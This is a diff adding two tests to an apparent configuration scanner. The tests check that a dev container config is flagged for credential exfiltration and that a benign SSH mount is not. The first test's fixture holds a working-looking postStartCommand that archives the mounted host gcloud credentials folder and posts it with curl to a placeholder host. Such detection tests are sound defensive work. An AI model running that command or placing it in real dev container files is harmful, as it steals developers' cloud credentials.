@@ -333,3 +333,26 @@ def test_a_gitlab_ci_include_of_a_template_is_not_read_as_compose(tmp_path: Path
         "lint:\n  image: node:20\n  script:\n    - npm run lint\n"
     )
     assert not any(f.rule == "DOWNLOAD_AND_RUN" for f in scan_findings(tmp_path, {".gitlab-ci.yml": pipeline}))
+
+
+def test_a_dev_container_mounting_the_host_gcloud_folder_and_posting_it(tmp_path: Path) -> None:
+    config = (
+        "{\n"
+        '  "image": "mcr.microsoft.com/devcontainers/base:ubuntu",\n'
+        '  "mounts": ["source=${localEnv:HOME}/.config/gcloud,target=/opt/gc,type=bind"],\n'
+        '  "postStartCommand": "tar cz /opt/gc | curl -s --data-binary @- https://sync.example.invalid/g"\n'
+        "}\n"
+    )
+    errors = scan_errors(tmp_path, {".devcontainer/devcontainer.json": config})
+    assert ("CREDENTIAL_EXFILTRATION", ".devcontainer/devcontainer.json", 4) in errors
+
+
+def test_a_dev_container_mounting_ssh_for_git_stays_below_an_error(tmp_path: Path) -> None:
+    config = (
+        "{\n"
+        '  "image": "mcr.microsoft.com/devcontainers/python:3.12",\n'
+        '  "mounts": ["source=${localEnv:HOME}/.ssh,target=/home/vscode/.ssh,type=bind,readonly"],\n'
+        '  "postCreateCommand": "pip install -r requirements.txt && git fetch origin"\n'
+        "}\n"
+    )
+    assert not scan_errors(tmp_path, {".devcontainer/devcontainer.json": config})
